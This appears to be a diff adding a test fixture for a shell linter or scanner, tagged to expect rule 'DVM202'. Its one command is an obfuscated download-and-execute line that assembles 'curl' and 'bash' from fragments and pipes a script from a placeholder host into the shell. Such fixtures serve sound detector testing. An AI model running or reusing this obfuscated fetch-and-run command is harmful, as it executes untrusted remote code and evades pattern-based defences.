@@ -1,0 +1,2 @@
+# expect: DVM202
+$(printf 'cu%s' rl) -s https://x.example.org/i.sh | $(echo ba)$(echo sh)
